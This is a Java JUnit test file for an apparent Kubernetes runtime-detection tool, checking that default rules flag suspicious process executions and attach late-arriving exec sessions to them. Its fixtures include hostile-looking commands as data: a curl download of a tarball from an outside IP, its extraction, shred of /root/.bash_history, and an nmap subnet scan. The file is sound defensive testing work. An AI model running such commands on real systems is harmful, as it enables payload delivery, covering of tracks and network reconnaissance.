package io.podtrail.detect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.podtrail.correlate.Attributions;
import io.podtrail.correlate.Correlator;
import io.podtrail.correlate.SessionRecord;
import io.podtrail.event.Event;
import io.podtrail.event.EventKind;
import io.podtrail.event.Fields;
import io.podtrail.pipeline.TrailWriter;
import io.podtrail.query.EventQuery;
import io.podtrail.store.EventStore;
import io.podtrail.store.duckdb.DuckDbEventStore;
import io.podtrail.store.duckdb.DuckDbFilterSql;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Detection through the real seams: TrailWriter with the default rules over the DuckDB store. Policy events are
 * stored once per rule and triggering event, the feed filters on policy and event fields, and a session that
 * arrives after its processes were stored makes the session rules fire then.
 */
class DetectionPipelineTest {

    static final long T0 = 1_700_000_000_000_000_000L;
    static final long S = 1_000_000_000L;

    static Event exec(long id, long t, String name, String args, String execId) {
        return new Event().kind(EventKind.PROCESS_EXEC).set(Fields.ID, id).set(Fields.TIME, t).set(Fields.TYPE, "execve")
                .set(Fields.SOURCE, "syscall").set(Fields.FORMAT, "podtrail").set(Fields.HOSTNAME, "node-1")
                .set(Fields.PROC_NAME, name).set(Fields.PROC_ARGS, args).set(Fields.PROC_EXEPATH, "/usr/bin/" + name)
                .set(Fields.PROC_CMDLINE, name + " " + args).set(Fields.PROC_PID, id).set(Fields.PROC_EXEC_ID, execId)
                .set(Fields.PROC_PNAME, "bash").set(Fields.CONTAINER_ID, "19a02291e106").set(Fields.K8S_NS_NAME, "billing")
                .set(Fields.K8S_POD_NAME, "billing-api-1").set(Fields.CONTAINER_NAME, "billing-api");
    }

    /** Attributes given processes to one session at the next drain. */
    static final class LateSession implements Correlator {
        Attributions next = Attributions.EMPTY;

        @Override
        public void accept(Event event) {
        }

        @Override
        public Attributions drain() {
            Attributions a = next;
            next = Attributions.EMPTY;
            return a;
        }
    }

    static SessionRecord session(String id) {
        return new SessionRecord(id, "exec", "john.doe", List.of("sre"), null, "203.0.113.45", "kubectl/v1.30.1", List.of("bash"),
                "billing-api", true, true, T0, null, true, 101L, SessionRecord.EXACT, "exec-bash", List.of(), "prod", "billing",
                "billing-api-1", "node-1", "19a02291e106");
    }

    @Test
    void policyEventsAreStoredOnceFilteredAndRaisedAgainOnLateSessions(@TempDir Path dir) {
        RuleEngine engine = RuleEngine.of(RuleLoader.load(DefaultRules.file()));
        LateSession correlator = new LateSession();
        try (EventStore store = DuckDbEventStore.open(dir, DuckDbFilterSql.TEXT_COMPILER)) {
            TrailWriter writer = new TrailWriter(store, correlator, engine);
            List<Event> batch = List.of(exec(1, T0, "bash", "", "exec-bash"),
                    exec(2, T0 + S, "curl", "-sO http://198.51.100.23/p.tgz", "exec-curl"),
                    exec(3, T0 + 2 * S, "tar", "-xzf p.tgz", "exec-tar"),
                    exec(4, T0 + 3 * S, "shred", "-u /root/.bash_history", "exec-shred"),
                    exec(5, T0 + 4 * S, "nmap", "-sS 10.0.0.0/24", "exec-nmap"));
            writer.write(batch);
            List<PolicyEvent> all = store.policyEvents(EventQuery.of("")).events();
            assertThat(all).extracting(PolicyEvent::rule)
                    .containsExactly("Network tool launched", "History or log tampering"); // newest first
            assertThat(all.get(0).event().getString(Fields.PROC_NAME)).isEqualTo("nmap");
            assertThat(all.get(0).priority()).isEqualTo(Priority.NOTICE);
            assertThat(all.get(0).sessionId()).isNull();

            // idempotent: the same batch again raises nothing new
            int before = store.policyEvents(EventQuery.of("")).events().size();
            writer.write(batch);
            assertThat(store.policyEvents(EventQuery.of("")).events()).hasSize(before);

            // the feed's filter: policy fields, aliases, and any field of the triggering event
            assertThat(store.policyEvents(EventQuery.of("priority = Notice")).events()).extracting(PolicyEvent::eventId)
                    .containsExactly(5L);
            assertThat(store.policyEvents(EventQuery.of("tags = T1040 and k8s.ns.name = billing")).events())
                    .extracting(PolicyEvent::rule).containsExactly("Network tool launched");
            assertThat(store.policyEvents(EventQuery.of("policy.output contains \"shred -u\" and proc.pname = bash"))
                    .events()).extracting(PolicyEvent::eventId).containsExactly(4L);
            assertThat(store.policyEvents(EventQuery.of("proc.name = nmap")).events()).hasSize(1);
            assertThatThrownBy(() -> store.query(EventQuery.of("rule = x"))).hasMessageContaining("policy-events");

            // raised again with a session, a stored policy event takes it (and its output); without, it keeps it
            PolicyEvent nmap = store.policyEvents(EventQuery.of("proc.name = nmap")).events().get(0);
            store.appendPolicyEvents(List.of(new PolicyEvent(nmap.rule(), nmap.priority(), nmap.tags(), "with session s9",
                    nmap.time(), nmap.eventId(), "s9", nmap.source(), null)));
            store.appendPolicyEvents(List.of(new PolicyEvent(nmap.rule(), nmap.priority(), nmap.tags(), "no session",
                    nmap.time(), nmap.eventId(), null, nmap.source(), null)));
            PolicyEvent again = store.policyEvents(EventQuery.of("proc.name = nmap")).events().get(0);
            assertThat(again.output()).isEqualTo("with session s9");
            assertThat(again.sessionId()).isEqualTo("s9");

            // pages: newest first, cursor continues
            EventStore.PolicyEventPage p1 = store.policyEvents(new EventQuery("", null, null, 1, null));
            EventStore.PolicyEventPage p2 = store.policyEvents(new EventQuery("", null, null, 10, p1.nextCursor()));
            List<Long> ids = new ArrayList<>();
            p1.events().forEach(p -> ids.add(p.eventId()));
            p2.events().forEach(p -> ids.add(p.eventId()));
            assertThat(ids).containsExactly(5L, 4L);
        }
        assertThat(engine.hits().get("Network tool launched")).isEqualTo(2L); // raised twice, stored once
    }

    /**
     * A session attributed after its processes were stored: the rules that read session fields run again on the
     * stored events (read back with their session) and raise what they now match. Over {@link MemoryStore}: the
     * DuckDB store's session tables are the correlator's (its upsert of sessions fails at the moment, see
     * SessionTables.write), so this runs against a fake with the same contract.
     */
    @Test
    void lateSessionRaisesTheSessionRules() {
        RuleEngine engine = RuleEngine.of(RuleLoader.load(DefaultRules.file()));
        LateSession correlator = new LateSession();
        MemoryStore store = new MemoryStore();
        TrailWriter writer = new TrailWriter(store, correlator, engine);
        writer.write(List.of(exec(1, T0, "bash", "", "exec-bash"),
                exec(2, T0 + S, "curl", "-sO http://198.51.100.23/p.tgz", "exec-curl"),
                exec(3, T0 + 2 * S, "tar", "-xzf p.tgz", "exec-tar"),
                exec(4, T0 + 3 * S, "shred", "-u /root/.bash_history", "exec-shred")));
        assertThat(store.policy.values()).extracting(PolicyEvent::rule).containsExactly("History or log tampering");
            // the session arrives later: the download-then-extract rule (session.id) now fires on tar
            correlator.next = new Attributions(List.of(session("s1")),
                    Map.of("exec-bash", "s1", "exec-curl", "s1", "exec-tar", "s1", "exec-shred", "s1"), List.of());
            writer.write(List.of(exec(6, T0 + 5 * S, "ls", "", "exec-ls")));
            List<PolicyEvent> late = store.policy.values().stream().filter(p -> p.rule().startsWith("Download")).toList();
            assertThat(late).hasSize(1);
            assertThat(late.get(0).eventId()).isEqualTo(3);
            assertThat(late.get(0).sessionId()).isEqualTo("s1");
            assertThat(late.get(0).output()).contains("user=john.doe").contains("session=s1");

        // the history tampering raised before the session now names it
        assertThat(store.policy.values()).filteredOn(p -> p.rule().equals("History or log tampering")).singleElement()
                .satisfies(p -> assertThat(p.output()).contains("user=john.doe"));
        // and the root shell of the session is now a terminal shell (session.root, session.tty)
        assertThat(store.policy.values()).extracting(PolicyEvent::rule).containsExactlyInAnyOrder("History or log tampering",
                "Download then extract or execute in an exec session", "Terminal shell in a container");
    }
}
